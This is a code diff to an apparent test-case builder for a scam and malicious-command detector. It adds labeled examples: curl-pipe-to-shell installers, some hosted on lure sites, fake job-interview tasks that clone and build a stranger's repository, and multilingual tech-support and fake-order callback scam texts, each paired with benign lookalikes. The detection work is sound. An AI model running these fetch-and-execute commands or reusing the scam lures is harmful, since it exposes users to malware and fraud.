@@ -279,18 +279,20 @@ for i, page in enumerate(APP_PAGES):
 # product's own host
 CURL_QUIET = (
     (
-        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install'
-        '.sh)"',
+        'bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
         "https://brew.sh/",
     ),
-    ("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", "https://rustup.rs/"),
     (
-        "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash",
+        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
+        "https://rustup.rs/",
+    ),
+    (
+        "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.3/install.sh | bash",
         "https://github.com/nvm-sh/nvm",
     ),
-    ("curl -fsSL https://ollama.com/install.sh | sh", "https://ollama.com/download/linux"),
+    ("curl -fsSL https://ollama.com/install.sh | bash", "https://ollama.com/download/linux"),
     (
-        "curl -fsSL https://ollama.com/install.sh | sh",
+        "curl -fsSL https://ollama.com/install.sh | bash",
         "https://ollama-setup.app-downloads.example/linux",
     ),
     (
@@ -303,7 +305,7 @@ CURL_QUIET = (
     ),
     ("curl -fsSL https://get.wallet-cli.dev | sh", "https://docs.wallet-cli.dev/install"),
     (
-        "curl -LsSf https://astral.sh/uv/install.sh | sh",
+        "curl -LsSf https://astral.sh/uv/0.5.1/install.sh | sh",
         "https://uv-python.tutorials-hub.example/getting-started",
     ),
 )
@@ -331,6 +333,236 @@ for text, page in (
     ("curl -fsSL https://quill.io/i.sh | sh", "https://quillnote.mac-apps-hub.example/download"),
 ):
     book.add("curl-lure-page", text, "suspicious", "macos", "terminal", page)
+
+
+# ---- a stranger's repository cloned, then built or run (fake job tasks) ----------------------
+JOB_PAGES = (
+    "https://hire.chainworks-devjobs.example/assignment/12",
+    "https://careers.ledgerly.example/take-home/frontend",
+    "https://www.talent-bridge.example/interview/tech-round/551",
+    "https://jobs.nimbus-labs.example/candidates/task?id=88",
+)
+CLONES = (
+    "https://git.task-drop.invalid/dex-frontend",
+    "https://code.quant-hire.test/assess/backend.git",
+    "https://github.com/nimbuslabs-hr/assessment-7",
+    "https://bitbucket.org/ledgerly-team/wallet-ui.git",
+    "https://gitlab.com/tb-hiring/api-task",
+)
+STEPS = (
+    "cd {d} && npm install && npm run dev",
+    "cd {d} && yarn && yarn start",
+    "cd {d} && pnpm i && pnpm dev",
+    "cd {d} && pip install -e . && python main.py",
+    "cd {d} && make && ./run.sh",
+    "cd {d} && cargo run --release",
+    "cd {d} && go run .",
+    "cd {d}\nnpm ci\nnode server.js",
+    "cd {d}; docker compose up -d",
+)
+for i, url in enumerate(CLONES):
+    d = url.rstrip("/").rsplit("/", 1)[1].removesuffix(".git")
+    for k in range(3):
+        step = STEPS[(i * 2 + k) % len(STEPS)].replace("{d}", d)
+        text = f"git clone {url} && {step}" if "\n" not in step else f"git clone {url}\n{step}"
+        page = JOB_PAGES[(i + k) % len(JOB_PAGES)]
+        book.add("stranger-clone-build", text, "malicious", "linux", "terminal", page)
+    if "github" not in url and "gitlab" not in url and "bitbucket" not in url:
+        # a server that is no public forge: a note bare (a team's own server builds the same
+        # way), a warning from any stranger's page
+        text = f"git clone {url} && " + STEPS[i % len(STEPS)].replace("{d}", d)
+        book.add("stranger-clone-build", text, "info", "linux", "unknown")
+        book.add(
+            "stranger-clone-build",
+            text,
+            "flagged",
+            "macos",
+            "terminal",
+            "https://forum.devs-lounge.example/t/4410",
+        )
+# the framing in the text itself, from a forge too: flagged bare, blocked from a stranger's page
+PRETEXTS = (
+    "# take-home assignment: please run it before our call\n",
+    "# Technical interview - step 1 (required before the call)\n",
+    "# Recruiter: build and start the project so we can review it together\n",
+    "# coding test for the candidate\n",
+)
+for i, pre in enumerate(PRETEXTS):
+    url = CLONES[2 + i % 3]
+    d = url.rstrip("/").rsplit("/", 1)[1].removesuffix(".git")
+    text = pre + f"git clone {url} && " + STEPS[i].replace("{d}", d)
+    both("stranger-clone-build", text, "linux", "terminal", "https://mail.quick-inbox.example/m/77")
+CLONE_QUIET = (
+    (
+        "git clone https://github.com/fernlab/fernctl && cd fernctl && npm install && npm start",
+        "https://github.com/fernlab/fernctl",
+    ),
+    (
+        "git clone https://github.com/fernlab/fernctl.git\ncd fernctl\nmake && sudo make install",
+        "https://github.com/fernlab/fernctl#building-from-source",
+    ),
+    (
+        "git clone https://github.com/fernlab/fernctl && cd fernctl && pip install -e .",
+        "https://dev.to/someone/contributing-to-fernctl-4kd2",
+    ),
+    (
+        "git clone https://git.fernctl.dev/fernctl && cd fernctl && make",
+        "https://fernctl.dev/docs/build",
+    ),
+    (
+        "git clone https://git.corp.internal/platform/deploy-tools && cd deploy-tools && make",
+        "https://wiki.corp.internal/onboarding",
+    ),
+    (
+        "git clone https://github.com/jwasham/coding-interview-university && cd "
+        "coding-interview-university && npm install",
+        "https://github.com/jwasham/coding-interview-university",
+    ),
+    (
+        "git clone https://github.com/acme-hiring/take-home-readme",
+        "https://careers.acme.example/jobs/42",
+    ),
+    ("npm install -g @acme/cli && acme login", "https://careers.acme.example/jobs/42"),
+    (
+        "git clone https://gitlab.gnome.org/GNOME/gnome-shell.git && cd gnome-shell && meson setup build",
+        "https://wiki.gnome.org/Newcomers",
+    ),
+)
+for text, page in CLONE_QUIET:
+    quiet("stranger-clone-build", text, "linux", "terminal", page)
+    quiet("stranger-clone-build", text, "linux", "unknown", None)
+
+
+# ---- tech-support and callback texts with national phone formats -----------------------------
+SCAM_PAGES = ("https://alerte.securite-pc.example/", None)
+SUPPORT = (
+    (
+        "fr",
+        "Votre ordinateur a été bloqué. Des logiciels espions ont été détectés.\nAppelez le "
+        "support technique au {p} (appel gratuit) avant de fermer cette page.",
+        ("09 75 555 142", "0 805 12 34 56", "01.86.76.55.42", "+33 (0)9 75 55 51 42", "0975555142"),
+    ),
+    (
+        "de",
+        "Ihr Computer wurde gesperrt. Trojaner erkannt!\nRufen Sie sofort den Support an: {p}",
+        ("0800 555 7731", "0180 5 555 773", "030 5557731", "+49 (0) 800 5557731", "0800/5557731"),
+    ),
+    (
+        "es",
+        "Su ordenador ha sido bloqueado por virus. Llame al soporte técnico: {p}",
+        ("900 123 456", "912 34 56 78", "+34 912 345 678"),
+    ),
+    (
+        "it",
+        "Il tuo computer è stato bloccato per un virus. Chiama subito il supporto al {p}",
+        ("800 123 456", "02 1234 5678", "+39 02 1234 5678"),
+    ),
+    (
+        "pt",
+        "Seu computador foi bloqueado por um vírus. Ligue para o suporte: {p}",
+        ("(11) 91234-5678", "0800 123 4567", "+55 11 91234-5678"),
+    ),
+    (
+        "nl",
+        "Uw computer is geblokkeerd wegens een virus. Bel direct de helpdesk: {p}",
+        ("0800-1234", "020-1234567", "088 123 4567"),
+    ),
+    (
+        "pl",
+        "Twój komputer został zablokowany. Wykryto wirusa. Zadzwoń: {p}",
+        ("22 123 45 67", "800 123 456", "+48 22 123 45 67"),
+    ),
+    (
+        "tr",
+        "Bilgisayarınız engellendi, virüs tespit edildi. Hemen arayın: {p}",
+        ("444 1 234", "0850 123 45 67", "0212 123 45 67"),
+    ),
+    (
+        "ru",
+        "Ваш компьютер заблокирован, обнаружен вирус. Позвоните: {p}",
+        ("8 (495) 123-45-67", "8 800 123-45-67"),
+    ),
+    (
+        "ja",
+        "お使いのコンピューターはウイルスに感染しロックされました。サポートにお電話ください: {p}",
+        ("0120-123-456", "03-1234-5678", "050-1234-5678"),
+    ),
+    (
+        "zh",
+        "您的电脑已被锁定，检测到病毒。请立即拨打技术支持电话 {p}",
+        ("400-123-4567", "138 1234 5678", "010-12345678"),
+    ),
+    (
+        "ar",
+        "تم حظر جهاز الكمبيوتر الخاص بك بسبب فيروس. اتصل بالدعم الفني على {p}",
+        ("9200 12345", "800 123 4567"),
+    ),
+    (
+        "en",
+        "Your computer has been locked due to a virus. Call support on {p} now.",
+        ("0800 123 4567", "020 7946 0018"),
+    ),
+)
+for _lang, text, phones in SUPPORT:
+    for j, phone in enumerate(phones):
+        page = SCAM_PAGES[j % 2]
+        book.add(
+            "support-scam-national", text.replace("{p}", phone), "flagged", "any", "unknown", page
+        )
+CALLBACKS = (
+    "Amazon: Ihre Bestellung #302-5591 (Laptop, 1.299,00 €) wurde bestätigt.\nSie haben diese "
+    "Bestellung nicht aufgegeben? Rufen Sie sofort unseren Kundenservice an: {p}",
+    "Amazon: Ihre Bestellung über 849,00 € wurde bestätigt. Nicht Sie? Rufen Sie uns an: {p}",
+    "Amazon : votre commande de 1 299,00 € est confirmée. Vous n'avez pas passé cette commande ? "
+    "Appelez le {p}",
+    "PayPal : paiement de 499,99 € confirmé. Ce n'était pas vous ? Appelez immédiatement le {p}",
+    "Amazon: su pedido de 899,00 € ha sido confirmado. ¿No realizó este pedido? Llame al {p}",
+    "Amazon: il tuo ordine di 899,00 € è stato confermato. Non hai effettuato questo ordine? "
+    "Chiama il {p}",
+    "Amazon: seu pedido de R$ 2.499,00 foi confirmado. Não fez este pedido? Ligue para {p}",
+    "Amazon: uw bestelling van € 899,00 is bevestigd. Niet geplaatst? Bel direct {p}",
+    "Amazon: Siparişiniz onaylandı (12.499,00 TL). Bu siparişi siz vermediyseniz hemen arayın: {p}",
+)
+CALLBACK_PHONES = (
+    "0800 555 7731",
+    "0180 5 555 773",
+    "09 75 555 142",
+    "+33 9 75 55 51 42",
+    "912 34 56 78",
+    "02 1234 5678",
+    "(11) 3003-4070",
+    "0800-1234",
+    "0850 123 45 67",
+)
+for i, text in enumerate(CALLBACKS):
+    book.add(
+        "callback-national",
+        text.replace("{p}", CALLBACK_PHONES[i]),
+        "flagged",
+        "any",
+        "unknown",
+        "https://postfach.mail-view.example/n/5" if i % 2 else None,
+    )
+SUPPORT_QUIET = (
+    "Bei Fragen zu Ihrer Bestellung #302-5591 erreichen Sie unseren Kundenservice unter 0800 555 "
+    "7731 (Mo-Fr 8-18 Uhr).",
+    "Ihre Bestellung wurde versandt. Rückfragen bitte unter 030 5557731 oder per E-Mail.",
+    "Pour toute question sur votre commande n° 4412, appelez le 09 75 55 51 42 du lundi au "
+    "vendredi.",
+    "Rendez-vous confirmé le 01.02.2026 à 10h30. Pour l'annuler, appelez le 01 86 76 55 42.",
+    "Su pedido ha sido enviado. Atención al cliente: 912 34 56 78.",
+    "Il tuo ordine è stato spedito. Per assistenza chiama il numero verde 800 123 456.",
+    "Seu pedido foi enviado. Central de atendimento: (11) 3003-4070.",
+    "订单已发货，如有问题请拨打客服电话 400-123-4567。",
+    "ご注文ありがとうございます。お問い合わせは 0120-123-456 までお電話ください。",
+    "Siparişiniz kargoya verildi. Müşteri hizmetleri: 444 1 234.",
+    "Ваш заказ отправлен. Справочная служба: 8 (495) 123-45-67.",
+    "Your order has shipped. Questions? Call us on 0800 123 4567, Monday to Friday.",
+    "Termin am 01.02.2026 12:30, Raum 0.12.3.45, Durchwahl 030 5557731.",
+)
+for text in SUPPORT_QUIET:
+    quiet("support-scam-national", text, "any", "unknown", None)
+    quiet("support-scam-national", text, "any", "other", "https://mail.example.com/inbox/77")
 
 CASES = book.cases
 
